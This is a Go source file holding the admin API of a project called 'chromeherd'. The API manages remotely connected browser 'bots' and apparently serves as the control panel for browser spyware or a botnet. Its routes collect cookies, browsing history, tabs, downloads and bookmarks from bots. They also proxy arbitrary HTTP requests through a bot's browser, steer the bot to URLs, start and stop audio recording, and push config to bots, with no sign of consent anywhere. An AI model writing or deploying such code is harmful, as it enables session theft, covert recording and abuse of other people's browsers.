// Package http exposes the admin API: the proxy-style request entry
// point, bot directory listing, remote control, and recording control.
// Authentication of admin users is handled upstream; the proxy entry
// point authenticates per-request with bot proxy credentials.
package http

import (
	"context"
	"encoding/json"
	"errors"
	"time"

	"github.com/gin-gonic/gin"
	"go.uber.org/zap"

	"github.com/chromeherd/chromeherd/internal/broker"
	"github.com/chromeherd/chromeherd/internal/navigate"
	"github.com/chromeherd/chromeherd/internal/recording"
	"github.com/chromeherd/chromeherd/internal/store"
)

// Directory is the bot directory surface the handlers use.
type Directory interface {
	ListBots(ctx context.Context) ([]store.Bot, error)
	GetBot(ctx context.Context, identity string) (*store.Bot, error)
	ResolveCredentials(ctx context.Context, username, password string) (string, error)
	UpdateBotConfig(ctx context.Context, identity string, switchCfg, dataCfg json.RawMessage) error
}

// Handlers wires the broker managers into gin routes.
type Handlers struct {
	engine    *broker.Engine
	navigator *navigate.Manager
	recorder  *recording.Manager
	directory Directory
	log       *zap.Logger

	callTimeout time.Duration
}

// NewHandlers creates the admin API handler set.
func NewHandlers(engine *broker.Engine, navigator *navigate.Manager, recorder *recording.Manager, directory Directory, log *zap.Logger, callTimeout time.Duration) *Handlers {
	if callTimeout <= 0 {
		callTimeout = broker.DefaultCallTimeout
	}
	return &Handlers{
		engine:      engine,
		navigator:   navigator,
		recorder:    recorder,
		directory:   directory,
		log:         log.Named("api"),
		callTimeout: callTimeout,
	}
}

// Register mounts all routes on the group.
func (h *Handlers) Register(rg *gin.RouterGroup) {
	rg.POST("/proxy-request", h.ProxyRequest)
	rg.GET("/bots", h.ListBots)
	rg.GET("/bots/:identity", h.GetBot)
	rg.GET("/bots/:identity/collect/:kind", h.Collect)
	rg.POST("/bots/:identity/remote-control", h.RemoteControl)
	rg.POST("/bots/:identity/stop-remote-control", h.StopRemoteControl)
	rg.POST("/bots/:identity/start-audio", h.StartAudio)
	rg.POST("/bots/:identity/stop-audio", h.StopAudio)
	rg.PUT("/bots/:identity/switches", h.UpdateSwitches)
}

// proxyRequestBody is the proxy-style entry point payload. Body is
// base64 in both directions.
type proxyRequestBody struct {
	Method  string            `json:"method" binding:"required"`
	URL     string            `json:"url" binding:"required"`
	Headers map[string]string `json:"headers"`
	Body    string            `json:"body"`
}

// ProxyRequest authenticates with bot proxy credentials (HTTP Basic),
// issues one HTTP_REQUEST on the resolved bot, and returns the result
// synchronously, bounded by the call timeout.
func (h *Handlers) ProxyRequest(c *gin.Context) {
	username, password, hasAuth := c.Request.BasicAuth()
	if !hasAuth {
		unauthorized(c)
		return
	}
	identity, err := h.directory.ResolveCredentials(c.Request.Context(), username, password)
	if err != nil {
		if errors.Is(err, store.ErrBadCredentials) {
			unauthorized(c)
			return
		}
		h.log.Error("Credential lookup failed", zap.Error(err))
		callFailure(c, broker.NewCallError(broker.KindSetupFailed, "credential lookup failed"))
		return
	}

	var body proxyRequestBody
	if err := c.ShouldBindJSON(&body); err != nil {
		badRequest(c, err.Error())
		return
	}

	result, err := h.engine.HTTPRequest(c.Request.Context(), identity, broker.HTTPRequestParams{
		Method:        body.Method,
		URL:           body.URL,
		Headers:       body.Headers,
		Body:          body.Body,
		Authenticated: true,
	}, h.callTimeout)
	if err != nil {
		callFailure(c, err)
		return
	}
	ok(c, result)
}

// botView is the directory record joined with live connection state.
type botView struct {
	store.Bot
	Live bool `json:"live"`
}

// ListBots returns the directory with live-connection state.
func (h *Handlers) ListBots(c *gin.Context) {
	bots, err := h.directory.ListBots(c.Request.Context())
	if err != nil {
		h.log.Error("Directory listing failed", zap.Error(err))
		callFailure(c, broker.NewCallError(broker.KindSetupFailed, "directory unavailable"))
		return
	}
	registry := h.engine.Registry()
	views := make([]botView, 0, len(bots))
	for _, b := range bots {
		views = append(views, botView{Bot: b, Live: registry.IsLive(b.Identity)})
	}
	ok(c, views)
}

// GetBot returns one directory record.
func (h *Handlers) GetBot(c *gin.Context) {
	identity := c.Param("identity")
	bot, err := h.directory.GetBot(c.Request.Context(), identity)
	if errors.Is(err, store.ErrNotFound) {
		badRequest(c, "unknown bot")
		return
	}
	if err != nil {
		callFailure(c, broker.NewCallError(broker.KindSetupFailed, "directory unavailable"))
		return
	}
	ok(c, botView{Bot: *bot, Live: h.engine.Registry().IsLive(identity)})
}

var collectMethods = map[string]broker.Method{
	"cookies":   broker.MethodGetCookies,
	"history":   broker.MethodGetHistory,
	"tabs":      broker.MethodGetTabs,
	"downloads": broker.MethodGetDownloads,
	"bookmarks": broker.MethodGetBookmarks,
}

// Collect runs one of the browser-data collection calls. The record
// schema is owned by the bot; the broker passes it through opaque.
func (h *Handlers) Collect(c *gin.Context) {
	method, known := collectMethods[c.Param("kind")]
	if !known {
		badRequest(c, "unknown collection kind")
		return
	}
	raw, err := h.engine.Collect(c.Request.Context(), c.Param("identity"), method, h.callTimeout)
	if err != nil {
		callFailure(c, err)
		return
	}
	ok(c, raw)
}

type remoteControlBody struct {
	URL string `json:"url" binding:"required"`
}

// RemoteControl navigates the bot's browser to a URL and returns the
// extracted document.
func (h *Handlers) RemoteControl(c *gin.Context) {
	var body remoteControlBody
	if err := c.ShouldBindJSON(&body); err != nil {
		badRequest(c, err.Error())
		return
	}
	res, err := h.navigator.Fetch(c.Request.Context(), c.Param("identity"), body.URL)
	if err != nil {
		callFailure(c, err)
		return
	}
	ok(c, res)
}

// StopRemoteControl aborts all navigation tasks for the bot.
func (h *Handlers) StopRemoteControl(c *gin.Context) {
	aborted := h.navigator.Stop(c.Request.Context(), c.Param("identity"))
	ok(c, gin.H{"aborted": aborted})
}

// StartAudio begins a recording session. Starting twice returns the
// existing session.
func (h *Handlers) StartAudio(c *gin.Context) {
	session, err := h.recorder.Start(c.Request.Context(), c.Param("identity"))
	if err != nil {
		callFailure(c, err)
		return
	}
	ok(c, gin.H{"session_id": session.String()})
}

// StopAudio ends the active recording session, if any.
func (h *Handlers) StopAudio(c *gin.Context) {
	session, err := h.recorder.Stop(c.Request.Context(), c.Param("identity"))
	if err != nil {
		callFailure(c, err)
		return
	}
	result := gin.H{}
	if session != "" {
		result["session_id"] = session.String()
	}
	ok(c, result)
}

// switchesBody carries the capability flags plus the optional opaque
// data-config blob. An omitted data_config clears the stored one.
type switchesBody struct {
	broker.SwitchConfig
	DataConfig json.RawMessage `json:"data_config,omitempty"`
}

// UpdateSwitches replaces the bot's durable config blobs. The record
// is updated first so the value survives reconnects and can be set
// while the bot is offline; a live connection picks it up immediately
// and echoes it on the next outbound call.
func (h *Handlers) UpdateSwitches(c *gin.Context) {
	var body switchesBody
	if err := c.ShouldBindJSON(&body); err != nil {
		badRequest(c, err.Error())
		return
	}
	identity := c.Param("identity")

	cfgRaw, err := json.Marshal(body.SwitchConfig)
	if err != nil {
		badRequest(c, err.Error())
		return
	}
	if err := h.directory.UpdateBotConfig(c.Request.Context(), identity, cfgRaw, body.DataConfig); err != nil {
		if errors.Is(err, store.ErrNotFound) {
			badRequest(c, "unknown bot")
			return
		}
		h.log.Error("Config update failed",
			zap.String("identity", identity),
			zap.Error(err))
		callFailure(c, broker.NewCallError(broker.KindSetupFailed, "directory unavailable"))
		return
	}

	live := false
	if conn, found := h.engine.Registry().Lookup(identity); found {
		conn.SetSwitchConfig(body.SwitchConfig)
		conn.SetDataConfig(body.DataConfig)
		live = true
	}
	ok(c, gin.H{"switch_config": body.SwitchConfig, "live": live})
}
